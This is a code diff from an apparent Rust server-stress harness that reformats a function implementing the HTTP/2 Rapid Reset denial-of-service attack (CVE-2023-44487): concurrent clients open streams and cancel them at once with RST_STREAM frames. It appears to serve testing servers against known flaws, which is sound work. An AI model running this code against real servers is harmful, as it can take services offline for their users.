@@ -32,17 +32,21 @@ pub(crate) fn half_handshakes(stage: &Stage) {
 /// Requests that are cancelled immediately (CVE-2023-44487).
 pub(crate) fn rapid_reset(stage: &Stage) {
     let (config, request) = (stage.site.tls("h2"), request(stage.page));
-    stage.crowd(16, || Client::connect(stage, &config, &[]), |client| {
-        for _ in 0..50 {
-            let stream = client.stream();
-            let cancelled = [
-                frame(HEADERS, END_STREAM | END_HEADERS, stream, &request),
-                frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
-            ];
-            offer(&mut client.stream, &cancelled.concat())?;
-        }
-        discard(&mut client.stream)
-    });
+    stage.crowd(
+        16,
+        || Client::connect(stage, &config, &[]),
+        |client| {
+            for _ in 0..50 {
+                let stream = client.stream();
+                let cancelled = [
+                    frame(HEADERS, END_STREAM | END_HEADERS, stream, &request),
+                    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
+                ];
+                offer(&mut client.stream, &cancelled.concat())?;
+            }
+            discard(&mut client.stream)
+        },
+    );
 }
 
 /// Request headers without end (CVE-2024-27316).
